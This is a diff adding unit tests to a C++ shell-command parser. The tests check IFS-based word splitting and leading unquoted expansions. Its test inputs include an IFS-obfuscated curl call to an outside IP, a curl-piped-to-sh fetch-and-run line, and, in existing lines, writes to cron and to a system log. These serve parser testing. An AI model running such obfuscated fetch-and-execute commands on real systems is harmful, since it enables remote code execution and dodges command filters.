@@ -29,6 +29,18 @@ TEST(ShellParser, PipelinesShareAnIndex) {
   EXPECT_TRUE(p.commands[1].piped_out);
 }
 
+// A script that sets IFS splits unquoted expansions on its characters.
+TEST(ShellParser, AssignedIfsSplitsExpansions) {
+  EXPECT_EQ(rendered("IFS=,;cmd=curl,http://198.51.100.3/x;$cmd"),
+            (std::vector<std::string>{"IFS=,", "cmd=curl,http://198.51.100.3/x", "curl http://198.51.100.3/x"}));
+  EXPECT_EQ(rendered("IFS=,;cmd=\"curl,x\";echo \"$cmd\""), (std::vector<std::string>{"IFS=,", "cmd=curl,x", "echo curl,x"}));
+}
+
+// An unquoted expansion that starts a word is split like any other.
+TEST(ShellParser, LeadingExpansionIsSplit) {
+  EXPECT_EQ(rendered("c=\"curl -s http://x\"; $c | sh"), (std::vector<std::string>{"c=curl -s http://x", "curl -s http://x", "sh"}));
+}
+
 TEST(ShellParser, RedirectionsAreRendered) {
   EXPECT_EQ(rendered("echo x >> /etc/cron.d/job 2>/dev/null"), (std::vector<std::string>{"echo x >>/etc/cron.d/job 2>/dev/null"}));
   EXPECT_EQ(rendered("echo 0> /var/log/secure"), (std::vector<std::string>{"echo 0>/var/log/secure"}));
